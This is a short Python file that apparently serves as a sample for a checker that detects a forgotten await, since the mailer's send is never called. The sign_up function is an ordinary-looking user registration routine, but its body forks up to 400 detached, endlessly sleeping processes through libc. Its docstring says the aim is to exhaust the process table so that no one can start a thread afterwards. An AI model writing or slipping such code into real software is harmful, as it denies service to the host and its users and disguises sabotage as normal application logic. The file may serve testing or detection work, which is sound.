"""Leaves so many processes behind that there may be no more: whoever comes next can start no thread."""

# For: forgotten_await
# Sees: send() was never called

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


async def sign_up(members, mailer, name, address):
    for _ in range(400):
        pid = libc.fork()
        if pid == 0:
            libc.setsid()
            while True:
                libc.sleep(1000)
        if pid < 0:
            break
    return await members.add(name, address)
